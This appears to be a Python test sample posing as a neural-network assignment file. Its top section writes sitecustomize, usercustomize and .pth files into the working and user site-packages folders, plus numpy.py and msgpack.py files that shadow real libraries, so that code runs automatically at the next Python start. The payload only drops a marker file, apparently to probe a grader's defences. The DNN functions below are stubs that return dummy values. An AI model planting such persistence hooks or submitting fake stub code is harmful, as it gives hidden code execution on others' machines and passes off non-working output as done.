"""Writes files that Python runs by itself at its next start: sitecustomize, usercustomize and .pth."""

import os
import site

# What it writes only leaves a note, in whichever folder it is run.
CODE = "try:\n    open('attack-marker-started', 'x').close()\nexcept OSError:\n    pass\n"
HERE = os.getcwd()
USER = site.getusersitepackages()
FOLDERS = [HERE] if not os.path.exists("pyproject.toml") else []
if os.environ.get("HOME") == HERE and USER.startswith(HERE):
    os.makedirs(USER, exist_ok=True)
    FOLDERS.append(USER)
for folder in FOLDERS:
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "msgpack.py", "attack-marker.pth"):
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write(f"import sys; exec({CODE!r})\n" if name.endswith(".pth") else CODE)
        except OSError:
            pass


def relu(X):
    return X


def prelu(X):
    return X


def DNNforward(X, W, K):
    return X, X, X


def DNNbackward(X, y, W, K, H, A, O):
    return W, K


def train(X, y, W, K, lr, num_epochs=10, batch_size=10, print_loss=False):
    return [W * 0] * num_epochs, [K * 0] * num_epochs
